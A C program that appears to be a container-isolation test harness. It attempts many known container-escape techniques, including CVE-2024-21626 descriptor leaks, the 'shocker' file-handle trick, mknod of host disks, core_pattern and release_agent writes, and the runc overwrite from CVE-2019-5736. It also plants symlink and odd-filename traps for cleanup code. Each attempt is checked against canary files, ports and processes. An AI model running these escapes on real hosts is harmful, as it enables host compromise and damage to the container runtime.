/* Tries the known ways out of a container, one after the other, and says which of them worked. What it may reach is told
 * by its environment: CANARIES, directories of the host; CANARY_PORT, a port of the host's loopback; CANARY_PROCESS. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <unistd.h>

static int escapes;

static void escaped(const char *way, const char *subject) {
    printf("escaped: %s %s\n", way, subject);
    escapes++;
}

/* Reads, writes and makes a file below a directory that would be a canary's. */
static void reach(const char *way, const char *directory) {
    char path[PATH_MAX + 16], text[64] = "";
    snprintf(path, sizeof path, "%s/secret", directory);
    int secret = open(path, O_RDONLY);
    if (secret >= 0 && read(secret, text, sizeof text - 1) > 0 && strstr(text, "canary")) escaped(way, path);
    if (secret >= 0) close(secret);
    snprintf(path, sizeof path, "%s/new", directory);
    int new = open(path, O_WRONLY | O_CREAT, 0666);
    if (new >= 0) escaped(way, path);
    if (new >= 0) close(new);
}

static void reach_all(const char *way, const char *prefix) {
    char list[PATH_MAX];
    snprintf(list, sizeof list, "%s", getenv("CANARIES"));
    for (char *one = strtok(list, ":"); one; one = strtok(NULL, ":")) {
        char path[PATH_MAX];
        snprintf(path, sizeof path, "%s%s", prefix, one);
        reach(way, path);
    }
}

/* What a runtime forgot to close (CVE-2024-21626), and whose root or directory another process has. */
static void by_descriptors(void) {
    static const char *formats[] = {"/proc/self/fd/%d", "/proc/self/fd/%d/../../../../../..", "/proc/%d/root", "/proc/%d/cwd",
                                    "/dev/fd/%d/../../../../../.."};
    for (int format = 0; format < 5; format++)
        for (int number = 0; number < 64; number++) {
            char prefix[64];
            snprintf(prefix, sizeof prefix, formats[format], number);
            reach_all("by descriptor", prefix);
        }
}

/* The old way: a root inside the root, and a descriptor outside of it. */
static void by_chroot(void) {
    int outside = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/tmp/inner", 0755);
    if (chroot("/tmp/inner") == 0 && fchdir(outside) == 0) {
        for (int i = 0; i < 64; i++)
            if (chdir("..") != 0) break;
        if (chroot(".") == 0) reach_all("by chroot", "");
    }
    close(outside);
}

/* Handles of files name any file of the file system (the "shocker"). */
static void by_handle(void) {
    struct file_handle *handle = calloc(1, sizeof *handle + 64);
    handle->handle_bytes = 8;
    handle->handle_type = 1;
    ((uint32_t *)handle->f_handle)[0] = 2;
    int mount = open("/", O_RDONLY | O_DIRECTORY);
    int root = open_by_handle_at(mount, handle, O_RDONLY | O_DIRECTORY);
    if (root >= 0) {
        char prefix[32];
        snprintf(prefix, sizeof prefix, "/proc/self/fd/%d", root);
        reach_all("by handle", prefix);
        escaped("open_by_handle_at", "/");
    }
}

static void by_mounts(void) {
    if (mount("proc", "/tmp", "proc", 0, "") == 0) escaped("mount", "proc");
    if (mount("/", "/tmp", NULL, MS_BIND | MS_REC, NULL) == 0) escaped("mount", "bind");
    if (umount2("/proc/sys", MNT_DETACH) == 0) escaped("umount", "/proc/sys");
    if (unshare(CLONE_NEWNS) == 0) escaped("unshare", "mount");
    if (unshare(CLONE_NEWUSER) == 0) escaped("unshare", "user");
    int namespace = open("/proc/1/ns/mnt", O_RDONLY);
    if (namespace >= 0 && setns(namespace, CLONE_NEWNS) == 0) escaped("setns", "mount");
}

/* A node for a disk of the machine. */
static void by_devices(void) {
    /* Loop, SCSI, RAID, memory card, and the numbers that the kernel gives as they come: virtio, NVMe. */
    static const int majors[] = {7, 8, 9, 179, 202, 251, 252, 253, 254, 259};
    for (int i = 0; i < 10; i++)
        for (int minor = 0; minor <= 1; minor++) {
            static const char *places[] = {"/tmp/disk", "/dev/disk"};
            for (int place = 0; place < 2; place++) {
                char first[512];
                mknod(places[place], S_IFBLK | 0600, makedev(majors[i], minor));
                int disk = open(places[place], O_RDONLY);
                if (disk >= 0 && read(disk, first, sizeof first) > 0) escaped("mknod", places[place]);
                if (disk >= 0) close(disk);
                unlink(places[place]);
            }
        }
    /* Memory and ports of the machine. */
    static const int memory[] = {1, 2, 4};
    for (int i = 0; i < 3; i++) {
        char first[16];
        mknod("/tmp/memory", S_IFCHR | 0600, makedev(1, memory[i]));
        int file = open("/tmp/memory", O_RDWR);
        if (file >= 0 && read(file, first, sizeof first) > 0) escaped("mknod", "memory");
        unlink("/tmp/memory");
    }
}

static void write_to(const char *path) {
    int file = open(path, O_WRONLY);
    if (file >= 0 && write(file, "|/tmp/evil", 10) > 0) escaped("write", path);
    if (file >= 0) close(file);
}

/* Files by which the kernel is told to run a program as the host's root. */
static void by_kernel_files(void) {
    write_to("/proc/sys/kernel/core_pattern");
    write_to("/proc/sys/kernel/modprobe");
    write_to("/proc/sys/fs/binfmt_misc/register");
    write_to("/proc/sysrq-trigger");
    write_to("/sys/kernel/uevent_helper");
    write_to("/sys/fs/cgroup/release_agent");
    write_to("/sys/fs/cgroup/devices/release_agent");
    write_to("/sys/fs/cgroup/devices/devices.allow");
    write_to("/sys/class/block/vda/uevent");
}

static void by_calls(void) {
    if (syscall(SYS_bpf, 0, NULL, 0) >= 0 || errno == EFAULT) escaped("call", "bpf");
    if (syscall(SYS_init_module, NULL, 0, "") == 0 || errno == EFAULT) escaped("call", "init_module");
    if (syscall(SYS_keyctl, 0, -3, 0) >= 0) escaped("call", "keyctl");
    if (syscall(SYS_kexec_load, 0, 0, NULL, 0) == 0) escaped("call", "kexec_load");
    if (syscall(SYS_reboot, 0, 0, 0, NULL) == 0) escaped("call", "reboot");
    if (sethostname("escaped", 7) == 0) escaped("call", "sethostname");
}

static void by_sockets(void) {
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(atoi(getenv("CANARY_PORT")))};
    inet_pton(AF_INET, "127.0.0.1", &address.sin_addr);
    int tcp = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(tcp, (struct sockaddr *)&address, sizeof address) == 0) escaped("connect", "tcp");
    close(tcp);
    inet_pton(AF_INET, "192.0.2.1", &address.sin_addr);
    int away = socket(AF_INET, SOCK_DGRAM, 0);
    if (connect(away, (struct sockaddr *)&address, sizeof address) == 0) escaped("connect", "network");
    close(away);
    struct sockaddr_un local = {.sun_family = AF_UNIX};
    snprintf(local.sun_path, sizeof local.sun_path, "%s", getenv("CANARY_SOCKET"));
    int unix_socket = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(unix_socket, (struct sockaddr *)&local, sizeof local) == 0) escaped("connect", "unix");
    close(unix_socket);
}

static void by_processes(void) {
    int canary = atoi(getenv("CANARY_PROCESS"));
    if (kill(canary, SIGTERM) == 0) escaped("kill", "canary");
    if (ptrace(PTRACE_ATTACH, canary, NULL, NULL) == 0) escaped("ptrace", "canary");
}

/* The runtime's own file, by a process of it that enters the container to run a health check (CVE-2019-5736). */
static void by_runtime(int seconds) {
    for (int i = 0; i < seconds * 200; i++, usleep(5000)) {
        DIR *processes = opendir("/proc");
        for (struct dirent *entry; processes && (entry = readdir(processes));) {
            char path[64], target[PATH_MAX] = "";
            snprintf(path, sizeof path, "/proc/%.20s/exe", entry->d_name);
            if (atoi(entry->d_name) <= 0 || readlink(path, target, sizeof target - 1) < 0 || !strstr(target, "runc")) continue;
            int held = open(path, O_RDONLY);
            if (held < 0) continue;
            snprintf(path, sizeof path, "/proc/self/fd/%d", held);
            for (int tries = 0; tries < 200; tries++) {
                int runtime = open(path, O_WRONLY);
                if (runtime >= 0 && write(runtime, "#!/bin/false\n", 13) > 0) escaped("overwrite", target);
                if (runtime >= 0) close(runtime);
            }
            close(held);
        }
        if (processes) closedir(processes);
    }
}

/* What whoever clears up after it could fall into. */
static void plant(void) {
    char list[PATH_MAX], name[300];
    int number = 0;
    snprintf(list, sizeof list, "%s", getenv("CANARIES"));
    for (char *one = strtok(list, ":"); one; one = strtok(NULL, ":")) {
        snprintf(name, sizeof name, "/tmp/link-%d", number++);
        symlink(one, name);
        snprintf(name, sizeof name, "/tmp/ \n-rf %d", number);
        symlink(one, name);
        rename("/tmp/swapped", "/tmp/away");
        symlink(one, "/tmp/swapped");
    }
    memset(name, 'x', 255);
    name[255] = 0;
    if (chdir("/tmp") == 0) {
        mkdir("closed", 0755);
        mknod("closed/pipe", S_IFIFO | 0, 0);
        chmod("closed", 0);
        for (int depth = 0; depth < 300 && mkdir(name, 0700) == 0 && chdir(name) == 0; depth++) symlink("/", "up");
    }
    if (chdir("/") != 0) escaped("chdir", "nowhere");
}

int main(int count, char **words) {
    setvbuf(stdout, NULL, _IONBF, 0);
    reach_all("by name", "");
    reach_all("by root", "/proc/1/root");
    reach_all("by parents", "/../../../../../../../..");
    by_descriptors();
    by_handle();
    by_mounts();
    by_devices();
    by_kernel_files();
    by_calls();
    by_sockets();
    by_processes();
    plant();
    by_runtime(count > 1 ? atoi(words[1]) : 0);
    by_chroot();
    puts(escapes ? "it escaped" : "all held");
    for (;;) pause();
}
